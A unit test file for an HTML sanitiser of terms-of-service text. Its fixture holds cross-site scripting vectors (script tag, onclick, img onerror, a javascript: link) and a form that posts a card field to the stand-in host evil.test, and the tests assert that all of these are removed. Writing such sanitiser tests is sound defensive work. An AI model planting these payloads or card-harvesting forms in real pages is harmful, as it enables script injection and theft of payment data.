import { sanitizeTermsHtml } from './terms-html';

const HOSTILE = `<h2>Terms</h2>
<p onclick="window.ran = true">Read these terms.</p>
<script>window.ran = true</script>
<img src="x" onerror="window.ran = true">
<form action="https://evil.test"><input name="card"><button>Send</button></form>
<a href="javascript:window.ran = true">Click</a>
<a href="https://example.test/privacy">Privacy Policy</a>
<ul><li>One</li></ul>`;

describe('sanitizeTermsHtml', () => {
  const clean = sanitizeTermsHtml(HOSTILE);

  it.each([
    ['scripts', /<script/i],
    ['event handlers', /onclick|onerror/i],
    ['javascript: links', /javascript:/i],
    ['forms and their controls', /<form|<input|<button/i],
    ['images (the onerror carrier)', /<img/i],
  ])('takes out %s', (_what, pattern) => {
    expect(clean).not.toMatch(pattern);
  });

  it('keeps the text, its structure and web links', () => {
    expect(clean).toContain('<h2>Terms</h2>');
    expect(clean).toContain('<p>Read these terms.</p>');
    expect(clean).toContain('<a href="https://example.test/privacy">Privacy Policy</a>');
    expect(clean).toContain('<li>One</li>');
  });
});
